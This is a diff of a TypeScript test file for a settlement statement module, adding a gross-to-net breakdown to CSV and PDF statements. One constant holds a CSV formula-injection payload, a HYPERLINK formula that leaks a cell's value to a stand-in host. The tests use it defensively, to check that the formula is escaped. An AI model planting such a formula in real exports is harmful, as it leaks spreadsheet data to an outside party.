@@ -12,14 +12,16 @@ import { BigDecimal, DateTime, Effect, Result, Schema } from "effect"
 import { csv, csvColumns } from "../../adapters/statements/CsvStatement.ts"
 import { pdf } from "../../adapters/statements/PdfStatement.ts"
 import * as Money from "../../core/Money.ts"
+import { lineTotal } from "../../core/settlements/Lines.ts"
 import {
   amountText,
   check,
   linesTotal,
   type Statement,
-  type StatementLine,
   StatementJson,
-  StatementUnbalanced
+  StatementLine,
+  StatementUnbalanced,
+  upgradeStoredLine
 } from "../../core/settlements/Statement.ts"
 
 const d = Money.decimal
@@ -37,16 +39,26 @@ if (popplerMissing.length > 0) {
   console.log(`SKIP PDF statement tests: no ${popplerMissing.join(", ")} on PATH (install Debian's poppler-utils; .ci/run does)`)
 }
 
-const line = (fields: Partial<StatementLine> & Pick<StatementLine, "kind" | "reference" | "amountUsd">): StatementLine => ({
-  at: at("2026-11-02T14:03:22Z"),
-  transactionId: null,
-  merchantOrderId: null,
-  method: null,
-  amountLocal: null,
-  currencyLocal: null,
-  feesUsd: null,
-  ...fields
-})
+/** A line; the columns not given are 0 but `otherUsd`, which takes what makes gross to net add up. */
+const line = (fields: Partial<StatementLine> & Pick<StatementLine, "kind" | "reference" | "amountUsd">): StatementLine => {
+  const l = {
+    at: at("2026-11-02T14:03:22Z"),
+    transactionId: null,
+    merchantOrderId: null,
+    method: null,
+    amountLocal: null,
+    currencyLocal: null,
+    grossUsd: d("0"),
+    feesUsd: d("0"),
+    reserveUsd: d("0"),
+    owedRecoveredUsd: d("0"),
+    refundsUsd: d("0"),
+    chargebacksUsd: d("0"),
+    otherUsd: d("0"),
+    ...fields
+  }
+  return fields.otherUsd === undefined ? { ...l, otherUsd: BigDecimal.subtract(l.amountUsd, lineTotal(l)) } : l
+}
 
 const hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"
 
@@ -60,6 +72,7 @@ const smallLines: ReadonlyArray<StatementLine> = [
     method: "pix",
     amountLocal: d("550"),
     currencyLocal: "BRL",
+    grossUsd: d("100"),
     amountUsd: d("96.50"),
     feesUsd: d("3.50")
   }),
@@ -72,6 +85,7 @@ const smallLines: ReadonlyArray<StatementLine> = [
     method: "webpay",
     amountLocal: d("15000"),
     currencyLocal: "CLP",
+    grossUsd: d("16"),
     amountUsd: d("15.20"),
     feesUsd: d("0.80")
   }),
@@ -84,6 +98,7 @@ const smallLines: ReadonlyArray<StatementLine> = [
     method: "oxxo",
     amountLocal: d("2000"),
     currencyLocal: "MXN",
+    grossUsd: d("1000"),
     amountUsd: d("1000"),
     feesUsd: d("0")
   }),
@@ -96,14 +111,15 @@ const smallLines: ReadonlyArray<StatementLine> = [
     method: "pix",
     amountLocal: d("100"),
     currencyLocal: "BRL",
+    refundsUsd: d("18.50"),
     amountUsd: d("-18.50")
   }),
-  line({ kind: "reserve_held", reference: "TXN-01JD8X3Y6QZ4M5N6P7R8S9T0VC", amountUsd: d("-100") }),
-  line({ kind: "fee", reference: "jnl_01jd8x3y6qz4m5n6p7r8s9t0ve", amountUsd: d("-0.05") })
+  line({ kind: "reserve_held", reference: "TXN-01JD8X3Y6QZ4M5N6P7R8S9T0VC", reserveUsd: d("-100"), amountUsd: d("-100") }),
+  line({ kind: "fee", reference: "jnl_01jd8x3y6qz4m5n6p7r8s9t0ve", feesUsd: d("0.05"), amountUsd: d("-0.05") })
 ]
 
 const smallSummary = {
-  gross: d("1116.50"),
+  gross: d("1116"),
   fees: { platform: d("0.05"), provider: d("4.30"), chargeback: d("0") },
   refunds: d("18.50"),
   chargebacks: d("0"),
@@ -137,6 +153,7 @@ const bigLines: ReadonlyArray<StatementLine> = Array.from({ length: 10_000 }, (_
   const id = `TXN-01JD8X3Y6Q${String(i).padStart(16, "0")}`
   const currency = ["BRL", "MXN", "COP"][i % 3]!
   const refund = i % 10 === 9
+  const net = d(`${refund ? "-" : ""}${(i % 89) + 1}.${String((i * 7) % 100).padStart(2, "0")}`)
   return line({
     kind: refund ? "refund" : "payment",
     at: DateTime.add(at("2026-11-01T00:00:00Z"), { seconds: i * 60 }) as DateTime.Utc,
@@ -146,8 +163,8 @@ const bigLines: ReadonlyArray<StatementLine> = Array.from({ length: 10_000 }, (_
     method: currency === "BRL" ? "pix" : currency === "MXN" ? "spei" : "pse",
     amountLocal: d(`${(i % 997) + 1}.${String(i % 100).padStart(2, "0")}`),
     currencyLocal: currency,
-    amountUsd: d(`${refund ? "-" : ""}${(i % 89) + 1}.${String((i * 7) % 100).padStart(2, "0")}`),
-    feesUsd: refund ? null : d("0.35")
+    amountUsd: net,
+    ...(refund ? { refundsUsd: BigDecimal.negate(net) } : { grossUsd: BigDecimal.sum(net, d("0.35")), feesUsd: d("0.35") })
   })
 })
 const big = statement(bigLines, linesTotal(bigLines))
@@ -254,6 +271,21 @@ describe("StatementJson", () => {
     }))
 })
 
+describe("a line stored before the breakdown", () => {
+  it("reads with its net as other and 0 elsewhere, so gross to net still adds up", () => {
+    const legacy = {
+      at: "2026-11-02T14:03:22.000Z", kind: "payment", transactionId: "TXN-1", reference: "TXN-1", merchantOrderId: null, method: "pix",
+      amountLocal: "550", currencyLocal: "BRL", amountUsd: "96.5", feesUsd: "3.5"
+    }
+    const line = Schema.decodeUnknownSync(Schema.toCodecJson(StatementLine))(upgradeStoredLine(legacy))
+    assert.strictEqual(Money.toText(line.otherUsd), "96.5")
+    assert.strictEqual(Money.toText(line.feesUsd), "0")
+    assert.strictEqual(Money.toText(lineTotal(line)), Money.toText(line.amountUsd))
+    const current = Schema.encodeSync(Schema.toCodecJson(StatementLine))(line)
+    assert.deepStrictEqual(upgradeStoredLine(current), current, "a current line is read as stored")
+  })
+})
+
 describe("amountText", () => {
   it("writes the currency's decimals, half to even, no exponent and no negative zero", () => {
     assert.strictEqual(amountText(d("50"), "USD"), "50.00")
@@ -289,12 +321,40 @@ describe("CSV statement", () => {
       "pix",
       "550.00",
       "BRL",
-      "96.50",
-      "3.50"
+      "100.00",
+      "3.50",
+      "0.00",
+      "0.00",
+      "0.00",
+      "0.00",
+      "0.00",
+      "96.50"
     ])
-    assert.deepStrictEqual(rows[1]!.slice(7), ["15000", "CLP", "15.20", "0.80"])
-    assert.deepStrictEqual(rows[3]!.slice(9), ["-18.50", ""])
-    assert.deepStrictEqual(rows[4]!.slice(2, 11), ["reserve_held", "", "TXN-01JD8X3Y6QZ4M5N6P7R8S9T0VC", "", "", "", "", "-100.00", ""])
+    assert.deepStrictEqual(rows[1]!.slice(7), ["15000", "CLP", "16.00", "0.80", "0.00", "0.00", "0.00", "0.00", "0.00", "15.20"])
+    assert.deepStrictEqual(rows[3]!.slice(9), ["0.00", "0.00", "0.00", "0.00", "18.50", "0.00", "0.00", "-18.50"])
+    assert.deepStrictEqual(rows[4]!.slice(2, 18), ["reserve_held", "", "TXN-01JD8X3Y6QZ4M5N6P7R8S9T0VC", "", "", "", "", "0.00", "0.00", "-100.00", "0.00", "0.00", "0.00", "0.00", "-100.00"])
+  })
+
+  it("goes from gross to net on every row, and each column sums to the summary's figure", () => {
+    const [header, ...rows] = readCsv(csv(small).slice(1))
+    const cell = (row: ReadonlyArray<string>, column: typeof csvColumns[number]) => d(row[header!.indexOf(column)]!)
+    const sum = (column: typeof csvColumns[number]) => Money.toText(BigDecimal.sumAll(rows.map((r) => cell(r, column))))
+    for (const row of rows) {
+      const gross = BigDecimal.sumAll([
+        cell(row, "gross_usd"),
+        BigDecimal.negate(cell(row, "fees_usd")),
+        cell(row, "reserve_usd"),
+        BigDecimal.negate(cell(row, "owed_recovered_usd")),
+        BigDecimal.negate(cell(row, "refunds_usd")),
+        BigDecimal.negate(cell(row, "chargebacks_usd")),
+        cell(row, "other_usd")
+      ])
+      assert.strictEqual(Money.toText(gross), Money.toText(cell(row, "net_usd")), row[4])
+    }
+    assert.deepStrictEqual(
+      [sum("gross_usd"), sum("fees_usd"), sum("reserve_usd"), sum("refunds_usd"), sum("net_usd")],
+      ["1116", "4.35", "-100", "18.5", "993.15"]
+    )
   })
 
   it("quotes a comma, a quote and a line break as RFC 4180 says", () => {
@@ -310,8 +370,8 @@ describe("CSV statement", () => {
     const [, ...rows] = readCsv(csv(small).slice(1))
     assert.strictEqual(rows[1]![5], `'${hyperlink}`)
     assert.strictEqual(rows[3]![5], "'-5+3")
-    assert.strictEqual(rows[3]![9], "-18.50")
-    assert.strictEqual(rows[5]![9], "-0.05")
+    assert.strictEqual(rows[3]![csvColumns.indexOf("net_usd")], "-18.50")
+    assert.strictEqual(rows[5]![csvColumns.indexOf("net_usd")], "-0.05")
   })
 
   it("writes 10,000 lines whose amounts sum back to the net", () => {
@@ -321,7 +381,7 @@ describe("CSV statement", () => {
     let total = Money.zero
     rows.forEach((row, i) => {
       assert.strictEqual(row[3], bigLines[i]!.transactionId)
-      total = BigDecimal.sum(total, d(row[9]!))
+      total = BigDecimal.sum(total, d(row[csvColumns.indexOf("net_usd")]!))
     })
     assert.strictEqual(Money.toText(total), Money.toText(big.summary.net))
   })
@@ -352,7 +412,7 @@ describe.skipIf(popplerMissing.length > 0)("PDF statement, read by poppler", () 
           "2026-11-01 00:00:00 to 2026-11-08 00:00:00",
           "USDC on ETH, address 0x71C7656EC7ab88b098defB751B7401B5f6d8976F",
           "0x9fc76417374aa880d4449a1f7f31ec597f00b1f6f3dd2d66f4c9c6c445836d8b",
-          "1,116.50",
+          "1,116.00",
           "993.15",
           "-18.50",
           "15,000 CLP",
@@ -361,7 +421,10 @@ describe.skipIf(popplerMissing.length > 0)("PDF statement, read by poppler", () 
           "page 1 of 1"
         ]) assert.include(text, expected)
         assert.match(text, /Net paid out\s+993\.15/)
-        assert.match(text, /Gross payments\s+1,116\.50/)
+        assert.match(text, /Gross payments\s+1,116\.00/)
+        // A row reads from gross to net, signed as each amount moved the net.
+        assert.match(text, /TXN-01JD8X3Y6QZ4M5N6P7R8S9T0VA\s+a,b\s+pix\s+550\.00 BRL\s+100\.00\s+-3\.50\s+96\.50/)
+        assert.match(text, /Reserve held\s+TXN-01JD8X3Y6QZ4M5N6P7R8S9T0VC\s+-100\.00\s+-100\.00/)
         for (const l of smallLines) if (l.transactionId !== null) assert.include(text, l.transactionId)
         // The formula is drawn as the text it is, and made no link.
         const raw = run("pdftotext", ["-raw", "-enc", "UTF-8", path, "-"])
@@ -431,7 +494,7 @@ describe.skipIf(popplerMissing.length > 0)("PDF statement, read by poppler", () 
         assert.strictEqual(pageTexts.length, pages)
         pageTexts.forEach((pageText, n) => {
           assert.include(pageText, `page ${n + 1} of ${pages}`)
-          assert.match(pageText, /Date \(UTC\)\s+Kind\s+Transaction id\s+Reference\s+Merchant order id\s+Method\s+Local amount\s+Amount USD\s+Fees USD/)
+          assert.match(pageText, /Date \(UTC\)\s+Kind\s+Transaction \/ reference\s+Merchant order id\s+Method\s+Local amount\s+Gross\s+Fees\s+Reserve\s+Owed repaid\s+Refunds\s+Chargebacks\s+Other\s+Net USD/)
         })
         const found = new Set(text.match(/TXN-01JD8X3Y6Q\d{16}/g) ?? [])
         for (const l of bigLines) assert.isTrue(found.has(l.transactionId!), `missing ${l.transactionId}`)
